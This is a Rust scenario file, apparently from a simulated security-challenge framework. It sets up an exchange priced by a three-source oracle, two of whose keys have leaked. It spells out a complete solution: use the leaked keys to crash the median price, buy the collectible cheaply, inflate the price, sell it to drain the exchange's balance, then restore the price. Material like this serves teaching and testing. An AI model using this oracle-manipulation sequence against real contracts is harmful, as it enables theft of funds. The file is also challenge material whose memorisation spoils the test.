//! Two of the oracle's three price sources have leaked keys. Moving the
//! median lets the player buy a collectible for nothing and sell it back
//! for the exchange's whole balance.

use std::sync::Arc;

use async_trait::async_trait;
use gauntlet_common::primitives::ether;
use gauntlet_common::subsystems::compromised::{Exchange, TrustfulOracle, COLLECTIBLE_SYMBOL, POST_PRICE};
use gauntlet_common::{Address, Amount, Arg, Call, CallData};

use crate::namespace::Namespace;
use crate::runner::{Exploit, ExploitView, Step};
use crate::scenario::{
    AccountRef, ActorDef, ArgSpec, AssetRef, Assertion, CallSpec, Comparison, Observation,
    Predicate, Scenario, ScenarioError,
};

pub const NAME: &str = "compromised";

const SOURCES: [&str; 3] = ["source-1", "source-2", "source-3"];
/// Sources whose keys leaked
const LEAKED: [&str; 2] = ["source-2", "source-3"];

pub fn exchange_initial_balance() -> Amount {
    ether(999)
}

pub fn initial_nft_price() -> Amount {
    ether(999)
}

pub fn initial_player_balance() -> Amount {
    ether(1) / Amount::from(10)
}

pub fn trusted_source_balance() -> Amount {
    ether(2)
}

/// The oracle's median must be back where it started.
pub struct MedianPriceUnchanged {
    pub expected: Amount,
}

#[async_trait]
impl Predicate for MedianPriceUnchanged {
    async fn evaluate(&self, namespace: &mut Namespace) -> anyhow::Result<Observation> {
        let oracle = namespace.subsystem("oracle")?;
        let query = CallData::new("get_median_price").arg(COLLECTIBLE_SYMBOL);
        let outcome = namespace
            .ledger()
            .static_call(Call::new(Address::zero(), oracle, query))
            .await?;
        let actual = match (&outcome.revert, outcome.return_data.as_uint()) {
            (Some(revert), _) => format!("revert ({revert})"),
            (None, Some(price)) => price.to_string(),
            (None, None) => format!("unexpected {}", outcome.return_data),
        };
        Ok(Observation {
            holds: outcome.return_data.as_uint() == Some(self.expected),
            expected: self.expected.to_string(),
            actual,
        })
    }

    fn describe(&self) -> Option<String> {
        Some(format!("median {} price == {}", COLLECTIBLE_SYMBOL, self.expected))
    }
}

pub fn scenario() -> Result<Scenario, ScenarioError> {
    let exchange = AccountRef::subsystem("exchange");
    let oracle = AccountRef::subsystem("oracle");
    let player = AccountRef::actor("player");

    let mut builder = Scenario::builder(NAME)
        .description("Leaked oracle keys move the median price the exchange trades at")
        .actor(ActorDef::observer("deployer", exchange_initial_balance()))
        .actor(ActorDef::signer("player", initial_player_balance()))
        .actor(ActorDef::observer(SOURCES[0], trusted_source_balance()));
    for leaked in LEAKED {
        builder = builder.actor(ActorDef::signer(leaked, trusted_source_balance()));
    }

    let sources: Vec<ArgSpec> = SOURCES.iter().map(|name| AccountRef::actor(name).into()).collect();
    let symbols: Vec<ArgSpec> = SOURCES.iter().map(|_| COLLECTIBLE_SYMBOL.into()).collect();
    let prices: Vec<ArgSpec> = SOURCES.iter().map(|_| initial_nft_price().into()).collect();

    builder
        .deploy(
            "oracle",
            "deployer",
            Arc::new(TrustfulOracle),
            vec![ArgSpec::List(sources), ArgSpec::List(symbols), ArgSpec::List(prices)],
        )
        .deploy_with_value(
            "exchange",
            "deployer",
            Arc::new(Exchange),
            vec![oracle.clone().into()],
            exchange_initial_balance(),
        )
        .precondition(Assertion::balance_eq(
            exchange.clone(),
            AssetRef::Native,
            exchange_initial_balance(),
        ))
        .precondition(Assertion::balance_eq(
            player.clone(),
            AssetRef::Native,
            initial_player_balance(),
        ))
        .precondition(Assertion::permission(
            AccountRef::actor(LEAKED[0]),
            oracle.clone(),
            POST_PRICE,
            true,
        ))
        .precondition(Assertion::permission(
            player.clone(),
            oracle.clone(),
            POST_PRICE,
            false,
        ))
        .precondition(Assertion::returns(
            "player",
            oracle,
            CallSpec::new("get_median_price").arg(COLLECTIBLE_SYMBOL),
            initial_nft_price(),
        ))
        .postcondition(Assertion::balance_eq(exchange.clone(), AssetRef::Native, Amount::zero()))
        .postcondition(Assertion::balance(
            player.clone(),
            AssetRef::Native,
            Comparison::Gt,
            exchange_initial_balance(),
        ))
        .postcondition(Assertion::returns(
            "player",
            exchange,
            CallSpec::new("balance_of").arg(player),
            Arg::Uint(Amount::zero()),
        ))
        .postcondition(Assertion::custom(
            "oracle median price unchanged",
            Arc::new(MedianPriceUnchanged {
                expected: initial_nft_price(),
            }),
        ))
        .build()
}

/// Crash the median with the leaked keys, buy, restore a high price,
/// sell, then put the price back.
pub struct CompromisedExploit;

impl CompromisedExploit {
    fn post_prices(view: &ExploitView, price: Amount) -> anyhow::Result<Vec<Step>> {
        let oracle = view.subsystem("oracle")?;
        Ok(LEAKED
            .iter()
            .map(|source| {
                Step::call(
                    source,
                    oracle,
                    CallData::new("post_price").arg(COLLECTIBLE_SYMBOL).arg(price),
                )
            })
            .collect())
    }
}

impl Exploit for CompromisedExploit {
    fn plan(&self, view: &ExploitView) -> anyhow::Result<Vec<Step>> {
        let exchange = view.subsystem("exchange")?;
        let token_id = Amount::zero();

        let mut steps = Self::post_prices(view, Amount::zero())?;
        steps.push(Step::call_with_value(
            "player",
            exchange,
            CallData::new("buy_one"),
            ether(1) / Amount::from(100),
        ));
        steps.extend(Self::post_prices(view, exchange_initial_balance())?);
        steps.push(Step::call(
            "player",
            exchange,
            CallData::new("approve").arg(exchange).arg(token_id),
        ));
        steps.push(Step::call(
            "player",
            exchange,
            CallData::new("sell_one").arg(token_id),
        ));
        steps.extend(Self::post_prices(view, initial_nft_price())?);
        Ok(steps)
    }

    fn describe(&self) -> String {
        "move the oracle median with leaked keys".to_string()
    }
}

pub fn exploit() -> Arc<dyn Exploit> {
    Arc::new(CompromisedExploit)
}
